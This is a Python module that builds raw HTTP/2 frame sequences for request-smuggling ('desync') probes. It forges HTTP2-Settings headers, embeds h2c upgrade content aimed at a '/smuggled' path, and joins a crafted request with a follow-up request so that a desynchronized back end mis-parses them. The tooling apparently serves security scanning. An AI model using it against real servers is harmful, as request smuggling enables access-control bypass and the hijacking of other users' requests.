"""Minimal HTTP/2 framing for desync probes.

Uses hyperframe for frame serialization and hpack for header blocks. This is
not an HTTP/2 client: it only renders byte sequences describing one or two
logical requests so payloads can carry malformed pseudo-headers, forbidden
connection headers or odd frame boundaries. hpack performs no validation,
so anything the caller passes ends up in the header block verbatim.
"""

import base64
from typing import Dict, List, Optional, Sequence, Tuple

from hpack import Encoder
from hyperframe.frame import DataFrame, HeadersFrame, SettingsFrame


H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

HeaderList = List[Tuple[str, str]]

# Settings carried by forged HTTP2-Settings headers
DEFAULT_SETTINGS: Dict[int, int] = {
    SettingsFrame.MAX_CONCURRENT_STREAMS: 100,
    SettingsFrame.INITIAL_WINDOW_SIZE: 1073741824,
    SettingsFrame.ENABLE_PUSH: 0,
}

MINIMAL_SETTINGS: Dict[int, int] = {
    SettingsFrame.INITIAL_WINDOW_SIZE: 65535,
}


def settings_payload(settings: Optional[Dict[int, int]] = None) -> bytes:
    """Serialize a SETTINGS frame body (no 9-byte frame header)."""
    frame = SettingsFrame(0, settings=dict(DEFAULT_SETTINGS if settings is None else settings))
    return frame.serialize_body()


def settings_header_value(
    settings: Optional[Dict[int, int]] = None,
    urlsafe: bool = True,
) -> str:
    """Encode settings the way an ``HTTP2-Settings`` header carries them.

    Args:
        settings: Setting id to value mapping, defaults to ``DEFAULT_SETTINGS``
        urlsafe: base64url without padding (RFC 7540 token68) when True,
            the standard alphabet with padding otherwise

    Returns:
        Header value string
    """
    body = settings_payload(settings)
    if urlsafe:
        return base64.urlsafe_b64encode(body).rstrip(b"=").decode("ascii")
    return base64.b64encode(body).decode("ascii")


def build_settings_frame(settings: Optional[Dict[int, int]] = None) -> bytes:
    frame = SettingsFrame(0, settings=dict(DEFAULT_SETTINGS if settings is None else settings))
    return frame.serialize()


def build_headers_frame(
    encoder: Encoder,
    headers: Sequence[Tuple[str, str]],
    stream_id: int,
    end_stream: bool = False,
) -> bytes:
    """HEADERS frame with END_HEADERS set and an hpack-encoded block."""
    frame = HeadersFrame(stream_id)
    frame.data = encoder.encode(list(headers))
    frame.flags.add('END_HEADERS')
    if end_stream:
        frame.flags.add('END_STREAM')
    return frame.serialize()


def build_data_frame(data: bytes, stream_id: int, end_stream: bool = True) -> bytes:
    frame = DataFrame(stream_id)
    frame.data = data
    if end_stream:
        frame.flags.add('END_STREAM')
    return frame.serialize()


def request_pseudo_headers(
    method: str,
    path: str,
    authority: str,
    scheme: str = "https",
) -> HeaderList:
    return [
        (":method", method),
        (":path", path),
        (":scheme", scheme),
        (":authority", authority),
    ]


def prior_knowledge_frames(
    authority: str,
    path: str = "/smuggled",
    include_preface: bool = True,
) -> bytes:
    """Preface, SETTINGS and a GET HEADERS frame on stream 1.

    Used as the embedded post-upgrade content of h2c probes.
    """
    encoder = Encoder()
    frames = H2_PREFACE if include_preface else b""
    frames += build_settings_frame()
    frames += build_headers_frame(
        encoder,
        request_pseudo_headers("GET", path, authority, scheme="http"),
        stream_id=1,
        end_stream=True,
    )
    return frames


def encode_request_frames(
    first_headers: Sequence[Tuple[str, str]],
    first_body: Sequence[bytes],
    second_headers: Sequence[Tuple[str, str]],
) -> bytes:
    """Render two logical requests as one HTTP/2 frame sequence.

    Stream 1 carries the crafted request; its body is split into one DATA
    frame per element of ``first_body`` so payloads can choose where frame
    boundaries fall. Stream 3 carries the follow-up request a desynchronized
    back end would glue onto the leftover bytes.

    Args:
        first_headers: Header list of the crafted request
        first_body: Body segments for stream 1, possibly empty
        second_headers: Header list of the follow-up request

    Returns:
        Preface followed by the serialized frames
    """
    encoder = Encoder()
    frames = H2_PREFACE + build_settings_frame({})
    frames += build_headers_frame(
        encoder, first_headers, stream_id=1, end_stream=not first_body
    )
    for position, segment in enumerate(first_body):
        frames += build_data_frame(
            segment, stream_id=1, end_stream=position == len(first_body) - 1
        )
    frames += build_headers_frame(encoder, second_headers, stream_id=3, end_stream=True)
    return frames
